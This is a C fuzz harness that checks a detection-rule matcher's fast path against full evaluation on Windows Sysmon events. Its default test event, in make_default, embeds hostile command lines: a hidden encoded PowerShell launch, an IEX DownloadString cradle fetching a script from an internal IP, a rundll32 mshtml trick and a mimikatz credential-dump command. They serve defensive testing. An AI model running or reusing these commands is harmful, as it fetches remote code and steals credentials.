// fuzz_match: the matcher's shortcuts against full evaluation. The input is a rule file, then a
// line "%%", then one event field per line ("Name=Value"; "Name*N=Value" repeats the value N
// times, up to 200, so that long values come cheap). Without the "%%" line, the whole input is
// the rule file and the event is a fixed Sysmon process creation with long values. Every loaded
// rule must hit the event through sk_matcher_run (channel and event id index, literal prefilter,
// skipped and shortcut predicates, folded values remembered) exactly when sk_matcher_run_rule,
// which evaluates the rule in full, says it does; a second sk_matcher_run must agree too.
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "core/mem.h"
#include "fuzz_common.h"
#include "rules/ruleset.h"

#define MAX_REPEAT 200

static bool is_system(const char *name, size_t n)
{
    static const char *const sys[] = { "Channel",     "EventID",  "Provider_Name",
                                       "TimeCreated", "Computer", "EventRecordID" };
    for (size_t i = 0; i < sizeof sys / sizeof sys[0]; i++)
        if (strlen(sys[i]) == n && memcmp(sys[i], name, n) == 0)
            return true;
    return false;
}

static void add(sk_event *ev, const char *name, size_t nlen, const char *value, size_t vlen)
{
    // The caps (field count, value bytes) refuse some fields: they are simply not in the event.
    sk_status st = is_system(name, nlen)
                           ? sk_event_add(ev, name, nlen, value, vlen, SK_FIELD_SYSTEM)
                           : sk_event_add_data(ev, name, nlen, value, vlen);
    (void)st;
}

// "Name=Value" or "Name*N=Value".
static void add_line(sk_event *ev, const char *p, size_t n, char *buf, size_t cap)
{
    const char *eq = memchr(p, '=', n);
    if (!eq || eq == p || memchr(p, '\0', n) || !sk_utf8_valid(p, n))
        return; // readers hand over valid UTF-8 without NUL only
    size_t nlen = (size_t)(eq - p), vlen = n - nlen - 1;
    unsigned reps = 1;
    const char *star = memchr(p, '*', nlen);
    if (star && star > p) {
        reps = 0;
        for (const char *d = star + 1; d < eq && *d >= '0' && *d <= '9'; d++)
            reps = reps * 10 + (unsigned)(*d - '0') > MAX_REPEAT ? MAX_REPEAT
                                                                 : reps * 10 + (unsigned)(*d - '0');
        nlen = (size_t)(star - p);
    }
    size_t total = 0;
    for (unsigned r = 0; r < reps && total + vlen <= cap; r++) {
        memcpy(buf + total, eq + 1, vlen);
        total += vlen;
    }
    add(ev, p, nlen, buf, total);
}

static void make_default(sk_event *ev)
{
    static const char *const f[][2] = {
        { "Channel", "Microsoft-Windows-Sysmon/Operational" },
        { "EventID", "1" },
        { "Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" },
        { "CommandLine",
          "powershell.exe -NoP -sta -NonI -W Hidden -Enc "
          "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA "
          "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1'); "
          "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\" sekurlsa::logonpasswords "
          "\xd0\x96\xd0\xa3\xd0\x9a caf\xc3\xa9 \xe2\x80\x93x" },
        { "ParentImage", "C:\\Windows\\System32\\cmd.exe" },
        { "ParentCommandLine", "cmd.exe /c start /b powershell.exe -w hidden -ep bypass" },
        { "CurrentDirectory", "C:\\Users\\Public\\Downloads\\" },
        { "User", "CORP\\administrator" },
        { "Hashes", "MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=00,IMPHASH=AA" },
        { "UtcTime", "2024-05-15 21:10:00.000" },
    };
    for (size_t i = 0; i < sizeof f / sizeof f[0]; i++)
        add(ev, f[i][0], strlen(f[i][0]), f[i][1], strlen(f[i][1]));
}

static void mark(void *ctx, const sk_rule *r, const sk_event *ev, const sk_match_item *it, size_t n)
{
    (void)ev;
    (void)it;
    (void)n;
    ((unsigned char *)ctx)[sk_rule_index(r)] = 1;
}

int LLVMFuzzerTestOneInput(const unsigned char *data, size_t size)
{
    const char *text = (const char *)data, *sep = NULL;
    for (size_t i = 0; i + 4 <= size && !sep; i++)
        if (memcmp(text + i, "\n%%\n", 4) == 0)
            sep = text + i;
    size_t rule_len = sep ? (size_t)(sep - text) + 1 : size;

    sk_diags diags;
    sk_diags_init(&diags, NULL, NULL);
    sk_rule_loader *l = NULL;
    if (sk_rule_loader_new(&l, NULL, &diags) != SK_OK)
        __builtin_trap();
    sk_status st = sk_rule_loader_add_buffer(l, "fuzz.yml", text, rule_len, &diags);
    (void)st; // bad rules are skipped and reported; the rest are matched
    sk_ruleset *rs = sk_rule_loader_finish(l);
    size_t nr = sk_ruleset_count(rs);

    sk_event ev;
    sk_event_init(&ev);
    if (sep) {
        size_t cap = (size_t)MAX_REPEAT * size + 1;
        char *buf = sk_xmalloc(cap);
        const char *p = sep + 4, *end = text + size;
        while (p < end) {
            const char *nl = memchr(p, '\n', (size_t)(end - p));
            size_t n = nl ? (size_t)(nl - p) : (size_t)(end - p);
            add_line(&ev, p, n, buf, cap);
            p += n + 1;
        }
        free(buf);
    } else {
        make_default(&ev);
    }
    sk_event_finish(&ev);
    fuzz_check_event(&ev);

    unsigned char *fast = sk_xcalloc(nr + 1, 1), *again = sk_xcalloc(nr + 1, 1);
    unsigned char *full = sk_xcalloc(nr + 1, 1);
    sk_matcher *m = sk_matcher_new(rs);
    (void)sk_matcher_run(m, &ev, mark, fast);
    for (size_t i = 0; i < nr; i++)
        (void)sk_matcher_run_rule(m, sk_ruleset_rule(rs, i), &ev, mark, full);
    (void)sk_matcher_run(m, &ev, mark, again);
    for (size_t i = 0; i < nr; i++) {
        if (fast[i] != full[i] || again[i] != full[i]) {
            fprintf(stderr,
                    "fuzz: rule \"%s\": sk_matcher_run %d then %d, full evaluation %d\n",
                    sk_rule_title(sk_ruleset_rule(rs, i)),
                    fast[i],
                    again[i],
                    full[i]);
            abort();
        }
    }
    sk_matcher_free(m);
    free(fast);
    free(again);
    free(full);
    sk_event_fini(&ev);
    sk_ruleset_free(rs);
    return 0;
}
